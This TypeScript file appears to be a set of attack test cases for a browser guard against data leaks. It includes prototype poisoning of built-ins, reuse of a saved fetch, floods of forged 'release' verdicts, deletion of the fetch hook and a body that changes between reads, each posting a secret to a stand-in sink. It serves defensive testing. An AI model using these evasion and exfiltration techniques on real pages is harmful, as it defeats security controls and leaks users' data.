import { type Attack, row, type Secret, variant } from '../attack.ts';
import { note, post } from './bodies.ts';

declare global {
  interface Window {
    readonly first: { readonly fetch: typeof fetch };
  }
}

function poison(): void {
  const lie = () => 'release';
  RegExp.prototype.test = () => false;
  RegExp.prototype.exec = () => null;
  String.prototype.includes = () => false;
  String.prototype.indexOf = () => -1;
  String.prototype.match = () => null;
  Array.prototype.some = () => false;
  Array.prototype.find = () => undefined;
  Function.prototype.toString = lie;
  Map.prototype.get = () => undefined;
  Object.defineProperty(Object.prototype, 'kind', { get: lie, configurable: true });
}

function flood(): () => void {
  const timer = setInterval(() => {
    for (let id = 0; id < 50; id += 1) {
      const answer = { id, kind: 'release', type: 'answer', answer: { kind: 'release' } };
      window.postMessage(answer, '*');
      document.dispatchEvent(new CustomEvent('tacit:port', { detail: answer }));
      document.dispatchEvent(new MessageEvent('message', { data: answer }));
    }
  }, 1);
  return () => clearInterval(timer);
}

/** A page that works on the guard itself. */
export const TAMPERING: readonly Attack[] = [
  row('25', 'built-ins poisoned first', (secret) => {
    poison();
    return fetch(`${secret.sink}poisoned`, { method: 'POST', body: note(secret.text) });
  }),
  row('26', 'fetch saved by the first inline script', (secret) =>
    window.first.fetch.call(window, `${secret.sink}early`, { method: 'POST', body: note(secret.text) }),
  ),
  row('27', 'flood of forged verdicts', (secret) => {
    const stop = flood();
    setTimeout(stop, 1_000);
    return post(secret, note(secret.text));
  }),
  row('28', 'hook deleted or put back from its descriptor', (secret) => {
    const before = Object.getOwnPropertyDescriptor(window, 'fetch');
    Reflect.deleteProperty(window, 'fetch');
    const found = (window.fetch as typeof fetch | undefined) ?? Object.getPrototypeOf(window).fetch ?? before?.value;
    return found.call(window, `${secret.sink}deleted`, { method: 'POST', body: note(secret.text) });
  }),
  variant('29', 'body that changes between two readings', (secret: Secret) => {
    let reads = 0;
    const body = { toString: () => (++reads === 1 ? note('nothing of note') : note(secret.text)) };
    return post(secret, body as unknown as string);
  }),
];
